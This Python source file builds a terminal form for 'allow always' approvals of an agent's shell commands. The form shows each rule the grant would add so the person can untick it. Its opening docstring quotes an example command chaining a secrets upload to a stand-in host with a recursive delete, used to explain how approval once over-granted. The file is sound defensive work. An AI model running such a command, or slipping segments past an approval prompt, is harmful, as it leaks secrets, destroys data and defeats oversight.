"""The "allow always" form: every rule it would add, each one the person can untick.

"Allow always" on ``git status && curl -T secrets https://x && rm -rf y`` once granted every
segment while the form named only the first. Here the list is the policy's own
(``ApprovalRequested.always_rules``): one row per rule, all ticked, scrolling when long, with
the count in its title, so the person sees what they grant and can leave any segment out (the
call itself still runs this once). An edited ``prefix:*`` pattern replaces the list, and the
grant lasts the session or is saved.
"""

from __future__ import annotations

import contextlib

from rich.cells import cell_len
from rich.text import Text
from textual.app import ComposeResult
from textual.containers import Horizontal, Vertical
from textual.css.query import NoMatches
from textual.message import Message
from textual.widgets import (
    Button,
    Checkbox,
    Input,
    RadioButton,
    RadioSet,
    SelectionList,
    Static,
)

from tui.events import ApprovalAnswer, ApprovalDecision, ApprovalRequested
from tui.safe_text import one_line

HINT = "⏎ confirms · space ticks · tab moves · esc back"
"""Enter is bound above every widget of the form, so this holds whatever has focus (on the
Back button it goes back, as that button says)."""


def exact_rules(request: ApprovalRequested) -> list[str]:
    """What "allow always, exactly" grants: the policy's list, or (for a request made
    without one) each segment as its own exact rule."""
    if request.always_rules:
        return list(request.always_rules)
    if request.command is None:
        return [request.suggested_pattern or request.tool_name]
    segments = [s.text.strip() for s in request.segments] or [request.command.strip()]
    return [f"{request.tool_name}({text})" for text in segments]


class AlwaysForm(Vertical):
    """The form; ``answer()`` is what it describes right now."""

    class Reshaped(Message):
        """The form's height changed (a whole rule shown or hidden): the screen refits."""

    def __init__(self, request: ApprovalRequested) -> None:
        super().__init__(id="always-form")
        self.request = request
        self.rules = exact_rules(request)

    def compose(self) -> ComposeResult:
        self.border_title = "Allow always — grant"
        yield Static(id="always-count")
        yield SelectionList[str](
            *((Text(one_line(rule)), rule, True) for rule in self.rules), id="always-rules"
        )
        yield Static(id="always-whole")
        with Horizontal(id="always-pattern-row"):
            yield Checkbox("or this pattern:", id="kind-pattern")
            yield Input(
                self.request.suggested_pattern or "",
                id="always-pattern",
                placeholder="run_shell(git status:*)",
            )
        with RadioSet(id="always-scope"):
            yield RadioButton("for this session", value=True, id="scope-session")
            yield RadioButton("saved for this workspace", id="scope-saved")
        with Horizontal(classes="form-row"):
            yield Button("Allow always", id="always-ok", variant="warning")
            yield Button("Back", id="always-back")
            yield Static(HINT, classes="form-hint", id="always-hint")

    def on_mount(self) -> None:
        self._sync_count()

    def on_selection_list_selected_changed(self, event: SelectionList.SelectedChanged[str]) -> None:
        self._sync_count()

    def on_selection_list_selection_highlighted(
        self, event: SelectionList.SelectionHighlighted[str]
    ) -> None:
        self.show_whole()

    def on_resize(self) -> None:
        self.show_whole()

    def show_whole(self) -> None:
        """The rule under the cursor, whole, when its row cuts it short."""
        with contextlib.suppress(NoMatches):  # the modal went while this was queued
            self._show_whole()

    def _show_whole(self) -> None:
        rules = self.query_one("#always-rules", SelectionList)
        index = rules.highlighted
        rule = self.rules[index] if index is not None and rules.has_focus else None
        text = one_line(rule) if rule is not None else ""
        room = rules.scrollable_content_region.width - 4  # the tick box and its space
        cut = bool(text) and room > 0 and cell_len(text) > room
        if cut != self.has_class("-cut"):
            self.set_class(cut, "-cut")
            self.post_message(self.Reshaped())
        self.query_one("#always-whole", Static).update(Text(f"▸ {text}" if cut else ""))

    def on_descendant_focus(self) -> None:
        self.show_whole()

    def on_descendant_blur(self) -> None:
        self.show_whole()

    def on_checkbox_changed(self, event: Checkbox.Changed) -> None:
        self.set_class(event.value, "-pattern")
        self._sync_count()

    def _sync_count(self) -> None:
        """The line above the list: how many rules, how many kept, or that the pattern wins."""
        with contextlib.suppress(NoMatches):  # the modal went while this was queued
            self._count_line()

    def _count_line(self) -> None:
        kept = len(self.query_one("#always-rules", SelectionList).selected)
        total = len(self.rules)
        if self.query_one("#kind-pattern", Checkbox).value:
            line, ok = "the pattern below replaces these rules:", "Allow always"
        elif kept == total:
            noun = "this rule" if total == 1 else f"these {total} rules"
            line, ok = f"exactly {noun} (space unticks one):", "Allow always"
        else:
            line = f"{kept} of {total} rules kept (space ticks):"
            ok = "Allow always" if kept else "Allow once (no rule kept)"
        self.query_one("#always-count", Static).update(Text(line, "bold"))
        self.query_one("#always-ok", Button).label = ok

    def choose_pattern(self) -> None:
        self.query_one("#kind-pattern", Checkbox).value = True

    def pattern_edited(self, value: str) -> None:
        if value != (self.request.suggested_pattern or ""):
            self.choose_pattern()

    def answer(self) -> ApprovalAnswer:
        """The answer the form describes right now."""
        pattern_chosen = self.query_one("#kind-pattern", Checkbox).value
        saved = self.query_one("#scope-saved", RadioButton).value
        pattern = self.query_one("#always-pattern", Input).value.strip() if pattern_chosen else ""
        if pattern:
            return ApprovalAnswer(
                decision=ApprovalDecision.ALLOW_ALWAYS,
                pattern=pattern,
                scope="saved" if saved else "session",
            )
        kept = list(self.query_one("#always-rules", SelectionList).selected)
        if not kept:
            return ApprovalAnswer.allow_once()
        return ApprovalAnswer(
            decision=ApprovalDecision.ALLOW_ALWAYS,
            scope="saved" if saved else "session",
            rules=None if len(kept) == len(self.rules) else kept,
        )
